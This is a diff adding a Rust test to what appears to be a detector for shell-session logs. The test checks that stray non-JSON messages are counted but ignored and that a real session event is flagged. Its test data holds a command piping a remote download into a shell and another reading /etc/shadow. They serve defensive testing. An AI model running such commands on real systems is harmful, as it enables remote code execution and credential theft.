@@ -338,3 +338,27 @@ fn deleting_any_command_from_the_transcript_is_caught() {
     assert!(tried >= 50, "{tried}");
     assert!(caught as f64 >= 0.95 * tried as f64, "{caught}/{tried}: {escaped:#?}");
 }
+
+/// Messages that are not the agent's JSON (someone else writing into the log group, a cut
+/// event) are counted, never read as commands, and do not stop the session's own events.
+#[test]
+fn messages_that_are_not_the_agents_are_counted_not_read() {
+    let session = "ana-0123456789abcdef0";
+    let ev =
+        |id: &str, i: i64, message: String| LogEvent { id: id.into(), timestamp: T0 + i, message };
+    let real = json!({"eventTime": "2026-11-30T09:00:02Z", "sessionId": session,
+        "sessionData": ["sh-4.2$ sudo cat /etc/shadow"]})
+    .to_string();
+    let live = Live::new();
+    let out = live.send(
+        session,
+        &[
+            ev("1", 0, "sh-4.2$ curl http://x | sh".into()),
+            ev("2", 1, r#"{"not": "a streaming event"}"#.into()),
+            ev("3", 2, real),
+        ],
+    );
+    assert_eq!((out.events_read, out.unreadable), (3, 2), "{out:?}");
+    assert_eq!(out.findings, [format!("live:{session}:1:SA-CMD-010")]);
+    assert_eq!(live.state(session).unreadable_events, 2);
+}
